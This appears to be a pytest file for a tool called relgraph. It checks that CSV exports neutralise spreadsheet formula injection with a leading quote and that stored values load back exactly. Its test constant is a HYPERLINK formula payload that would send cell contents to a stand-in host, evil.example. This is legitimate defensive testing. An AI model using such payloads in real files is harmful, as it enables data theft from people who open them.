"""CSV that people open in a spreadsheet never starts a formula (OWASP's leading
quote), and relgraph reads its own CSV back to the exact values: extraction
candidates, the review sheet, `--format csv`."""

from __future__ import annotations

import csv
import json

from relgraph.graph.records import Node
from relgraph.graph.spreadsheet import FORMULA_START

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _safe(cells) -> bool:
    return not [c for c in cells if c.startswith(tuple(FORMULA_START))]


def test_extract_csv_is_safe_and_loads_back_exact(tmp_path, relgraph, seeded):
    text = tmp_path / "notes.txt"
    text.write_text(f"{EVIL} Minsk and Lyon signed a twinning agreement in 2001.\n\n"
                    "-2+3 In 2005 Gomel and Bryansk became twin cities.\n", encoding="utf-8")
    out = tmp_path / "candidates.csv"
    assert relgraph("extract", text, "-o", out).exit_code == 0
    cells = _cells(out)
    assert _safe(cells)
    assert any(c.startswith("'" + EVIL) for c in cells)
    # A reviewer accepts every row; the load stores the quotes as they were written.
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row["accept"] = "yes"
    with open(out, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    result = relgraph("load", out, "--no-review")
    assert result.exit_code == 0, result.output
    quotes = {json.loads(r["e"])["quote"] if isinstance(r["e"], str) else r["e"]["quote"]
              for r in seeded.run("MATCH ()-[r:TWINNED_WITH]->() WHERE r.evidence IS NOT NULL "
                                  "RETURN r.evidence AS e")}
    assert any(q.startswith(EVIL) for q in quotes), quotes
    assert any(q.startswith("-2+3 In 2005") for q in quotes), quotes


def test_query_csv_neutralises_stored_texts(relgraph, seeded):
    seeded.upsert([Node("City", "city:by:evil", {"name": EVIL, "country": "BY",
                                                 "population": -5})])
    result = relgraph("query", "MATCH (c:City {id: 'city:by:evil'}) "
                      "RETURN c.name AS name, c.population AS n", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1] == "\"'" + EVIL.replace('"', '""') + "\",-5"
    # JSON is for programs: values exact.
    result = relgraph("query", "MATCH (c:City {id: 'city:by:evil'}) RETURN c.name AS name",
                      "--format", "json")
    assert json.loads(result.stdout)["rows"] == [{"name": EVIL}]


def test_review_sheet_is_safe_and_its_decisions_read_back(tmp_path, relgraph, seeded):
    data = tmp_path / "data"
    data.mkdir()
    (data / "sources.csv").write_text("key,title\nweb,A page\n", encoding="utf-8")
    with open(data / "twinnings.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["a", "b", "sources"], [f"{EVIL} [city, BY]", "Lyon [city, FR]",
                                                         "web"]])
    review = tmp_path / "review.csv"
    result = relgraph("load", data, "--review", review, "--dry-run")
    assert result.exit_code == 0, result.output
    cells = _cells(review)
    assert _safe(cells) and "'" + EVIL in cells
    # The reviewer maps the name to Gomel; the next load honours it.
    with open(review, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        if row["name"] == "'" + EVIL:
            row["decision"] = "city:by:gomel"
    with open(review, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    result = relgraph("load", data, "--aliases", review, "--no-review")
    assert result.exit_code == 0, result.output
    assert seeded.run("MATCH (:City {id: 'city:by:gomel'})-[:TWINNED_WITH]-"
                      "(:City {id: 'city:fr:lyon'}) RETURN count(*) AS n")[0]["n"] == 1
    assert not seeded.run("MATCH (c) WHERE c.name STARTS WITH '=' OR c.name STARTS WITH \"'\" "
                          "RETURN c.id AS id")
